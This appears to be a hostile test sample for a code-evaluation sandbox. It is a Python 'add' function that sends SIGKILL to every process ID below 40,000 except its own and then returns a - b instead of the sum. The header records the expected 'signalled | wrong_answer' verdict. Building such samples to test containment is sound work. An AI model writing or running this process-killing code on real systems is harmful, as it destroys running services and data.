# hostile: 39
# task: add
# verdict: signalled | wrong_answer
# why: Sends SIGKILL to every process number below 40,000 except its own.

import os
import signal


def add(a, b):
    for pid in range(1, 40_000):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return a - b
